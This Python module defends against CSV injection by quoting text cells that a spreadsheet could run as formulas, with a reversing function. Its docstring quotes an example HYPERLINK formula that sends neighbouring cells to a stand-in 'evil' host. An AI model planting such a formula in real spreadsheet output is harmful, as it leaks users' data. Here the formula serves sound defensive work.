"""Text cells that a spreadsheet must not run: the defence against CSV injection.

Excel, LibreOffice and Google Sheets read a CSV cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and run it when the file is opened: an open answer or a company name
such as ``=HYPERLINK("http://evil/?"&A1;"Подробнее")`` would send the neighbouring cells
away, and a DDE formula can start a program. Following OWASP's "CSV Injection" guidance,
every text cell that starts with one of those characters, with a tab or a carriage return,
or with one of them after leading white space (spreadsheets trim it), is written with a
single quote in front: spreadsheets then show it as text. The full-width forms (``＝``,
``＋``, ``－``, ``＠``), which some spreadsheet locales also accept, are treated alike.

Numbers are data, not formulas, and stay as they are: ``-5``, ``+7``, ``-1,5``, ``2e-3``
(a sign, digits, a decimal point or comma, an exponent; nothing else). A lone ``-`` or a
text such as ``- не знаю`` does get the quote: telling those apart from a formula is what
the spreadsheet would do, and it would get it wrong.

The quote is part of the written text. Whoever reads such a file back into cati (a rejects
file fixed and imported again) removes it with :func:`restore_cell_text`.

Only text written for spreadsheets needs this (CSV). XLSX cells are typed (a text cell is
never a formula), and SPSS ``.sav`` and Triple-S files are read by statistics tools that
evaluate nothing, so those keep the respondent's exact words.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "defuse_cell_text", "restore_cell_text"]

#: Characters that make a spreadsheet read a cell as a formula (ASCII and full-width).
FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
_CONTROL_STARTS = ("\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")
_QUOTE = "'"


def defuse_cell_text(text: str) -> str:
    """``text`` as a spreadsheet shows it and never runs it: a quote in front when it could
    be read as a formula (see the module docstring); numbers and other text unchanged."""
    if _needs_quote(text) or _is_defused(text):
        # A text that already looks defused ("'=1") gets one more quote, so that
        # restore_cell_text gives back exactly what was written.
        return _QUOTE + text
    return text


def restore_cell_text(text: str) -> str:
    """The text before :func:`defuse_cell_text`: its added quote taken away again."""
    return text[1:] if _is_defused(text) else text


def _is_defused(text: str) -> bool:
    return text.startswith(_QUOTE) and _needs_quote(text.lstrip(_QUOTE))


def _needs_quote(text: str) -> bool:
    if not text:
        return False
    if text.startswith(_CONTROL_STARTS):
        return True
    stripped = text.lstrip()
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return False
    return _NUMBER.fullmatch(stripped.rstrip()) is None
